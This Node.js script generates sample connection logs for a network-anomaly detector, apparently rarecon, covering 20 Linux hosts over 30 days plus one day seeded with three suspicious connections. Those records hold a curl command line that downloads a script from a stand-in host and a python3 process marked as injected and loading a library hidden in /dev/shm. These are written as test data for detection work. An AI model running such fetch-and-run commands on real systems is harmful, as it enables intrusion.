// Writes the sample fleet of the README's "first hour": history.jsonl.gz (30 days
// of 20 Linux hosts, rarecon's NDJSON record format) and today.jsonl (the day
// after, with three connections worth an alert among the ordinary ones).
// Deterministic: run `node examples/fleet/generate.mjs` to write them again.
import { createHash } from 'node:crypto';
import { writeFileSync } from 'node:fs';
import { gzipSync } from 'node:zlib';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';

const here = dirname(fileURLToPath(import.meta.url));
const sha = (s) => createHash('sha256').update(s).digest('hex');
const hosts = Array.from({ length: 20 }, (_, i) => `ws${String(i + 1).padStart(2, '0')}`);
const START = Date.UTC(2026, 8, 1); // 2026-09-01, 30 days of history; "today" is 2026-10-01
const DAY = 86_400_000;
let seed = 7;
const rand = () => ((seed = (seed * 1103515245 + 12345) % 2 ** 31) / 2 ** 31);

const IMAGES = {
  firefox: { path: '/usr/lib/firefox-esr/firefox-esr', sha256: sha('firefox-esr 115.15.0esr-1~deb12u1'), pkg: 'firefox-esr 115.15.0esr-1~deb12u1' },
  curl: { path: '/usr/bin/curl', sha256: sha('curl 7.88.1-10+deb12u8'), pkg: 'curl 7.88.1-10+deb12u8' },
  apt: { path: '/usr/lib/apt/methods/http', sha256: sha('apt 2.6.1'), pkg: 'apt 2.6.1' },
  python3: { path: '/usr/bin/python3.11', sha256: sha('python3.11 3.11.2-6+deb12u3'), pkg: 'python3.11 3.11.2-6+deb12u3' },
  ssh: { path: '/usr/bin/ssh', sha256: sha('openssh-client 1:9.2p1-2+deb12u3'), pkg: 'openssh-client 1:9.2p1-2+deb12u3' },
};
// What each image talks to across the fleet: [root domain, port, host name, how many hosts].
const USUAL = {
  firefox: [['mozilla.org', 443, 'www.mozilla.org', 20], ['wikipedia.org', 443, 'en.wikipedia.org', 18], ['github.com', 443, 'github.com', 14], ['example-news.com', 443, 'www.example-news.com', 12]],
  curl: [['debian.org', 443, 'deb.debian.org', 20], ['github.com', 443, 'api.github.com', 12]],
  apt: [['debian.org', 80, 'deb.debian.org', 20], ['debian.org', 443, 'security.debian.org', 20]],
  python3: [['pypi.org', 443, 'pypi.org', 15], ['pythonhosted.org', 443, 'files.pythonhosted.org', 15]],
  ssh: [['github.com', 22, 'github.com', 11]],
};
const ip = (name) => {
  const h = createHash('sha256').update(name).digest();
  return `198.51.100.${1 + (h[0] % 250)}`; // documentation addresses (RFC 5737)
};

function conn(timeMs, host, image, hostname, port, extra = {}) {
  const i = IMAGES[image];
  return {
    type: 'connection',
    time: new Date(timeMs).toISOString(),
    host: { id: host, org: 'sample', name: `${host}.corp.example` },
    process: {
      pid: 2000 + Math.floor(rand() * 30_000),
      tid: null,
      path: i.path,
      sha256: i.sha256,
      signer: { status: 'valid', subject: `Debian package ${i.pkg}`, vendor: 'Debian' },
      injection: extra.injection ?? { injected: false, indicators: [] },
      cmdline: extra.cmdline ?? i.path,
      user: extra.user ?? 'alice',
      ...(extra.unusualLibraries === undefined ? {} : { unusualLibraries: extra.unusualLibraries }),
    },
    protocol: 'tcp',
    remote: { ip: ip(hostname), port, hostname },
  };
}

const history = [];
for (let d = 0; d < 30; d++) {
  for (const [hi, host] of hosts.entries()) {
    for (const [image, usual] of Object.entries(USUAL)) {
      for (const [, port, hostname, count] of usual) {
        if (hi >= count || rand() < 0.15) continue;
        history.push(conn(START + d * DAY + (8 + Math.floor(rand() * 9)) * 3_600_000 + Math.floor(rand() * 3_600_000), host, image, hostname, port));
      }
    }
  }
}
history.sort((a, b) => a.time.localeCompare(b.time));

const T = START + 30 * DAY;
const today = [];
for (const [hi, host] of hosts.entries()) {
  for (const [image, usual] of Object.entries(USUAL)) {
    for (const [, port, hostname, count] of usual) if (hi < count && rand() < 0.6) today.push(conn(T + 9 * 3_600_000 + Math.floor(rand() * 7 * 3_600_000), host, image, hostname, port));
  }
}
// The three worth a look:
// curl on ws07 to a name no host of the fleet ever reached, on port 8443 (very rare; Debian is a known vendor);
today.push(conn(T + 10 * 3_600_000, 'ws07', 'curl', 'update.cdn-mirror-7.example', 8443, { cmdline: 'curl -fsSL https://update.cdn-mirror-7.example:8443/i.sh' }));
// python3 on ws12, with an executable anonymous mapping on its stack, to an unseen domain (injected thread);
today.push(conn(T + 11 * 3_600_000, 'ws12', 'python3', 'sync.files-share.example', 443, {
  injection: { injected: true, indicators: ['anon-exec-frame:0x7f3a1c000f40'] },
  unusualLibraries: ['/dev/shm/.cache/libpthread-helper.so'],
  cmdline: 'python3 -c import socket,ssl ...',
  user: 'bob',
}));
// ssh on ws03 to github.com on 443 instead of 22: a port the fleet's ssh never used (very rare).
today.push(conn(T + 14 * 3_600_000, 'ws03', 'ssh', 'ssh.github.com', 443, { cmdline: 'ssh -p 443 git@ssh.github.com' }));
today.sort((a, b) => a.time.localeCompare(b.time));

writeFileSync(join(here, 'history.jsonl.gz'), gzipSync(history.map((r) => JSON.stringify(r)).join('\n') + '\n', { level: 9 }));
writeFileSync(join(here, 'today.jsonl'), today.map((r) => JSON.stringify(r)).join('\n') + '\n');
console.log(`history.jsonl.gz: ${history.length} records; today.jsonl: ${today.length} records`);
